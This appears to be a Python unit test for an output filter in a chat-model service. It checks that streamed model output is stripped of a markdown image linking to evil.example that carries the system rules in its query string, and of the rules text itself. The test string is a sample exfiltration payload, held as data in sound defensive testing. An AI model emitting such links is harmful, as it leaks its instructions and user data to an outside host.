"""A model that obeys a planted order carries nothing away."""

from __future__ import annotations

from service.generation.chat_model.prompts import RULES
from service.generation.chat_model.text_filters.output_guard import OutputGuard


def test_a_text_loses_links_and_instructions() -> None:
    """Also where the one stands in the other."""
    guard = OutputGuard(["See https://portal.example."], RULES, "")
    text = f"Yes: ![x](https://evil.example/?q={RULES[:300]}) {RULES} https://portal.example."
    told = "".join(guard.feed(text[at : at + 5]) for at in range(0, len(text), 5)) + guard.finish()
    assert told.startswith("Yes: ")
    assert told.endswith("https://portal.example.")
    assert "evil" not in told
    assert "numbered sources" not in told
